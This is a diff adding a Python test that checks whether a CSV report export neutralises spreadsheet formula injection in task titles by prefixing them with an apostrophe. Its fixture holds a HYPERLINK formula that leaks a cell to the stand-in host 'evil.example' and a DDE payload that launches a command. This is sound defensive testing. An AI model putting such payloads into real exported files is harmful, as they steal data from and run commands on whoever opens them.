@@ -152,6 +152,21 @@ def test_overlapping_runs_of_a_report_record_one_run_and_leave_only_its_file(
     assert len(list(csv.DictReader(io.StringIO(bucket.blob(first.object_name).download_as_text())))) == first.rows
 
 
+def test_a_report_keeps_a_titles_formula_as_text_for_whoever_opens_it_in_a_spreadsheet(
+    app_env: dict[str, str], db: psycopg.Connection[tuple[object, ...]], bucket: Bucket
+) -> None:
+    titles = ['=HYPERLINK("https://evil.example/?"&B2,"Open")', "@SUM(1+9)*cmd|' /C calc'!A0", "- milk", "plain"]
+    owner = _scalar(db, "INSERT INTO users (email, password_hash) VALUES ('f@example.com', 'x') RETURNING id")
+    for title in titles:
+        db.execute("INSERT INTO tasks (owner_id, title) VALUES (%s, %s)", (owner, title))
+    settings = Settings(**{k: v for k, v in app_env.items() if k in Settings.model_fields})  # type: ignore[arg-type]
+    with create_pool(settings, max_size=1, name="test") as pool:
+        written = reports.write_report(pool, Storage(settings), report_id=reports.create_report(pool, owner_id=None))
+    assert written is not None
+    rows = csv.DictReader(io.StringIO(bucket.blob(written.object_name).download_as_text()))
+    assert sorted(row["title"] for row in rows) == sorted([*(f"'{t}" for t in titles[:3]), "plain"])
+
+
 def test_outbox_sweep_redelivers_overdue_jobs_that_redis_lost_with_its_data(
     spawn: Spawn,
     db: psycopg.Connection[tuple[object, ...]],
